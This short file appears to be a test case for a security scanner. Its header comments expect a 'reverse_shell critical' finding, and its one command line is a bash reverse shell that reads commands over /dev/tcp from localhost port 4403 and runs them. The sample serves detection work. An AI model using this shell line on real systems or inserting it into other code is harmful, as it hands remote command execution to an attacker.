# about: no shell lasts: each line is a command of its own, run by the reader
# expect: reverse_shell critical
# needs: python3 bash
peer 4403
timeout 5 bash -c 'exec 5<>/dev/tcp/127.0.0.1/4403; while read -r line <&5; do [ "$line" = exit ] && break; /usr/bin/env $line >&5 2>&5 <&5; done' || true
done_typing
